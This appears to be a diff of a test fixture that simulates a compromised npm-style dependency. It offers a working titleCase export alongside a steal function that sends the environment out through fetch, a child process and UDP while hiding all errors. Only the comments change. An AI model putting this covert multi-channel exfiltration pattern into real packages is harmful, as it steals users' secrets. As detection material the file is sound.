@@ -1,4 +1,4 @@
-/** Stands for a dependency that was taken over: it does its job, and sends out what it finds in the environment. */
+/** Simulates a compromised dependency: it does its job, and sends the environment to an attacker. */
 const { execFile } = require('child_process');
 const dgram = require('dgram');
 const { promisify } = require('util');
@@ -10,7 +10,7 @@ exports.titleCase = async (text) => {
   return text.replace(/\b\w/g, (letter) => letter.toUpperCase());
 };
 
-/** Whatever fails, no one shall notice. */
+/** Sends data out, and hides all errors. */
 async function steal(loot) {
   await Promise.allSettled([byFetch(loot), byChildProcess(loot), byDatagram(loot)]);
 }
